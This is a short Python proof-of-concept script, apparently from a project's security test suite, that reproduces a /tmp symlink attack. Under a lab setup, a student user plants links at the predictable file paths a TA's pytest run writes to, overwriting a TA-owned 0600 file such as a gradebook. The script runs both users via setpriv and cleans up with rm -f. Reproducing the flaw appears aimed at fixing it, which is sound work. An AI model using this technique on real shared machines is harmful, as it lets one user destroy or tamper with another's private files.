"""a18: `make test`'s tests/test_launch.py::test_grandchildren_are_killed_too writes /tmp/launch-test-<pytest pid>-<rank>
(open(..., "w"), following links) as the TA. On this machine fs.protected_symlinks is 0 (a container): a student who
sees the TA's pytest in ps plants links there to a file of the TA's."""
import os, subprocess, time
victim = "/tmp/attack52-user-home/ta_victim3"
open(victim, "w").write("the TA's file, e.g. a gradebook\n"); os.chown(victim, 65534, 65534); os.chmod(victim, 0o600)
print(subprocess.run(["sysctl", "fs.protected_symlinks"], capture_output=True, text=True).stdout.strip())
st = subprocess.Popen(["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", "/usr/bin/python3", "tests/attacks/round52/user/a18_student_plant.py"],
                      stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, cwd="/")
time.sleep(0.5)
r = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "CLONE/.venv/bin/python", "-m", "pytest",
                    "-p", "no:cacheprovider", "-q", "tests/test_launch.py", "-k", "grandchildren"], cwd=(__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))),
                   env=dict(os.environ, HOME="/tmp/attack52-user-home"), capture_output=True, text=True, timeout=300)
print("TA's pytest:", r.stdout.strip()[-300:])
st.kill(); print("student:", st.communicate()[0][-300:])
print("the TA's 0600 file now holds:", repr(open(victim).read()[:80]))
subprocess.run("rm -f /tmp/launch-test-*", shell=True)
